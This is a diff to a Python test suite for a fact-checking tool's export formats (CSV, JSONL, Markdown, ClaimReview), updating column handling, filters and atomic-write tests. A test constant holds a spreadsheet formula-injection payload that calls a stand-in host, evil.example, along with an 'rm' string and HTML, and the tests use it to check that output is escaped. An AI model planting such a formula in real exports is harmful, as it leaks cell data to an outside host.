@@ -27,7 +27,9 @@ from verifier.export import (
     BOM,
     COLUMNS,
     FORMATS,
+    MD_COLUMNS,
     ExportError,
+    as_verdict_filter,
     export,
     export_file,
     format_for_path,
@@ -35,6 +37,7 @@ from verifier.export import (
     neutralise_cell,
 )
 from verifier.store import ClaimFilter, Store
+from verifier.store.verdicts import export_rows
 
 HOSTILE_CONTENT = '=HYPERLINK("http://evil.example/?x="&A1,"click") | `rm` <b>x</b>\nline two'
 
@@ -75,10 +78,10 @@ def store(tmp_path: Path) -> Iterator[Store]:
 
 
 def expected_rows(store: Store, flt: ClaimFilter | None = None) -> list[dict[str, object]]:
-    return [{k: row[k] for k in COLUMNS} for row in store.verdict_rows(flt)]
+    return [{k: row[k] for k in COLUMNS} for row in export_rows(store, as_verdict_filter(flt))]
 
 
-def run(store: Store, fmt: str, flt: ClaimFilter | None = None, **kw: bool) -> tuple[str, int]:
+def run(store: Store, fmt: str, flt: ClaimFilter | None = None, **kw: Any) -> tuple[str, int]:
     out = io.StringIO(newline="")
     count = export(store, fmt, out, flt, **kw)
     return out.getvalue(), count
@@ -165,8 +168,8 @@ def test_jsonl_round_trips(store: Store) -> None:
     lines = text.splitlines()
     assert count == len(lines) == 13
     rows = [json.loads(line) for line in lines]
-    assert rows == expected_rows(store)
-    assert all(list(row) == list(COLUMNS) for row in rows)
+    assert [{k: r[k] for k in COLUMNS} for r in rows] == expected_rows(store)
+    assert all(list(row)[: len(COLUMNS)] == list(COLUMNS) for row in rows)
     hostile = next(r for r in rows if r["article"] == "hostile.txt")
     assert hostile["content"] == HOSTILE_CONTENT
     assert isinstance(rows[0]["evidence_count"], int)
@@ -225,12 +228,12 @@ def test_md_table_shape_and_escaping(store: Store) -> None:
     text, count = run(store, "md")
     lines = text.splitlines()
     assert count == len(lines) - 2 == 13
-    assert md_cells(lines[0]) == list(COLUMNS)
+    assert md_cells(lines[0]) == list(MD_COLUMNS)
     assert set(lines[1].strip("|").split("|")) == {"---"}
     for line in lines[2:]:
-        assert len(md_cells(line)) == len(COLUMNS)
-    hostile = next(line for line in lines if "hostile.txt" in line)
-    content = md_cells(hostile)[COLUMNS.index("content")]
+        assert len(md_cells(line)) == len(MD_COLUMNS)
+    hostile = next(line for line in lines if "Evil Outlet" in line)
+    content = md_cells(hostile)[MD_COLUMNS.index("claim")]
     assert "<b>" not in content and "&lt;b&gt;" in content
     assert "\\`rm\\`" in content and "\\|" in content and "<br>line two" in content
     assert md_unescape(content) == HOSTILE_CONTENT
@@ -268,11 +271,11 @@ def test_md_cell_never_breaks_a_row(text: str) -> None:
 @pytest.mark.parametrize("fmt", FORMATS)
 def test_filters_are_honoured(store: Store, fmt: str) -> None:
     supported = claim_id(store, LEDGER_ADVANCE, 1)
-    text, count = run(store, fmt, ClaimFilter(rating=1))
+    text, count = run(store, fmt, ClaimFilter(rating=1), org="Desk")
     assert count == 1 and supported in text
-    _, unrated = run(store, fmt, ClaimFilter(rating=0))
-    assert unrated == 11
-    _, none = run(store, fmt, ClaimFilter(rating=5))
+    _, unrated = run(store, fmt, ClaimFilter(rating=0), org="Desk")
+    assert unrated == (0 if fmt == "claimreview" else 11)  # a ClaimReview needs a rating
+    _, none = run(store, fmt, ClaimFilter(rating=5), org="Desk")
     assert none == 0
 
 
@@ -308,13 +311,13 @@ def test_export_file_writes_atomically(
         export_file(store, tmp_path / "v.txt")
     with pytest.raises(ExportError):
         export_file(store, tmp_path / "missing-dir" / "v.csv")
-    rows = list(store.verdict_rows())
+    rows = list(export_rows(store))
 
-    def failing_rows(flt: ClaimFilter | None = None) -> Iterator[dict[str, Any]]:
+    def failing_rows(store: Store, flt: object = None) -> Iterator[dict[str, Any]]:
         yield rows[0]
         raise sqlite3.OperationalError("disk I/O error")
 
-    monkeypatch.setattr(store, "verdict_rows", failing_rows)
+    monkeypatch.setattr("verifier.export.formats.export_rows", failing_rows)
     with pytest.raises(ExportError):
         export_file(store, tmp_path / "v.jsonl", "md")
     assert not (tmp_path / "v.jsonl").exists()
